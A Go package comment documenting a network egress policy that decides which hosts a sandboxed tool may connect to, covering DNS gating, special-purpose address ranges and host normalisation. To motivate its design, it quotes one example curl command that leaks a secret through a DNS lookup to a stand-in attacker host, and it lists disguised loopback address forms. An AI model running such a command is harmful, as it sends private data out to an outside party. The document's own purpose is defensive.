// Package netpolicy decides where dsh and the worlds it runs may connect.
//
// A Policy judges a destination in a fixed order (always-deny metadata
// endpoints, explicit deny, names no name rule could allow,
// special-purpose address ranges, explicit allow, the default) and every
// Decision carries its reason and rule. The guarded Dialer resolves,
// checks every address, and dials only the address it checked. The
// egress proxy that applies a world's Policy to the traffic of the
// processes inside it is the subpackage netpolicy/proxy.
//
// # Names and DNS
//
// A lookup carries data out by itself (curl -x $HTTP_PROXY
// http://<secret>.attacker.example/ puts the secret in a query to the
// attacker's name server), so a name is resolved only if a name rule
// could allow it: an allow entry that is a host name, a *.glob or "*"
// matching the name and port, or default public admitting the port —
// and no always-deny or deny entry refuses it (Policy.MayResolve; the
// Dialer asks it before every lookup). IP, IP:port and CIDR entries
// allow addresses written as addresses, never names: with only
// --allow 10.0.0.0/8, a request for intranet.corp is denied before any
// lookup (rule "name-not-resolved", with a reason that names the fix:
// allow it by name, --allow intranet.corp:443). Once a name is
// resolved, its addresses are judged by every entry, so a name allowed
// by name that resolves to a special-purpose address still needs an
// address entry for it (--allow intranet.corp:443 --allow 10.0.0.0/8).
//
// # Special-purpose addresses
//
// The table in special.go holds every row of the IANA IPv4 and IPv6
// Special-Purpose Address Registries with its RFC and reason, plus
// multicast, class E, limited broadcast, site-local and SIIT. IPv4-mapped
// addresses are unmapped first; NAT64 (64:ff9b::/96) and 6to4 (2002::/16)
// addresses are judged by the IPv4 address they embed; IPv6 outside
// 2000::/3 is reserved. Only an allow entry that is an IP, IP:port or CIDR
// unlocks a special address — a host name never does, whatever it
// resolves to. Cloud metadata names and addresses can never be allowed,
// in any IPv6 disguise.
//
// # Hosts
//
// Hosts are judged as net/http will dial them: IDNA lookup mapping of
// runes that map to ASCII (fullwidth digits, ideographic dots, enclosed
// alphanumerics; the table is generated from golang.org/x/net/idna and
// tested against it), lower case, one trailing dot dropped. A host whose
// last label is a number is an IPv4 address in inet_aton form (127.1,
// 2130706433, 0x7f.0.0.1, 0177.0.0.1) and is judged as that address,
// never resolved; if it is not a valid one it is invalid. Because this
// package imports only the standard library it cannot reproduce Punycode
// conversion exactly, so a host with non-ASCII runes left after mapping
// is rejected: give internationalised names in their xn-- form. (dsh's
// own inputs — configuration, flags, policy files, dsh policy check —
// are converted before they get here, by internal/idn with the same IDNA
// profile net/http uses.)
// Percent-encoded hosts, zone IDs, userinfo, backslashes, whitespace and
// control characters are invalid. "localhost" and names under
// ".localhost" are loopback (RFC 6761) and never resolved.
//
// netpolicy imports only the standard library; metrics live with the
// proxy.
package netpolicy
